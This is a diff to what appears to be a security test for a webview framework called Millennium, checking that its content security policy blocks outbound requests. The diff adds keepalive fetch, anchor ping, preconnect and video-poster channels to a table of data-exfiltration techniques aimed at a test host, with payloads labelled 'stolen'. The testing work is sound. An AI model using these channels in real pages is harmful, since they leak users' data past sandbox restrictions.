@@ -2,7 +2,7 @@
 import { invoke } from "@millennium/api";
 
 const ran = {}, violations = new Set(), label = globalThis.__MILLENNIUM_INTERNALS__.label;
-const elsewhere = `${await invoke("where")}/${label}`, foreign = "millennium://elsewhere.localhost";
+const elsewhere = `${await invoke("where")}/${label}`, doorbell = await invoke("doorbell"), foreign = "millennium://elsewhere.localhost";
 globalThis.mark = (name) => { ran[name] = true; };
 addEventListener("message", ({ data }) => { if (typeof data === "string") mark(data); });
 document.addEventListener("securitypolicyviolation", (event) => violations.add(event.effectiveDirective));
@@ -76,6 +76,10 @@ const SPEECH = {
   fetch: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "stolen" }),
   xhr: (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); },
   beacon: (url) => navigator.sendBeacon(url, "stolen"),
+  keepalive: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "stolen", keepalive: true }),
+  ping: (url) => add("a", { href: "#pinged", ping: url }).click(),
+  preconnect: () => add("link", { rel: "preconnect", href: doorbell }),
+  poster: (url) => add("video", { poster: url }),
   socket: (url) => new WebSocket(url.replace("http", "ws")),
   events: (url) => new EventSource(url),
   image: (url) => { new Image().src = url; },
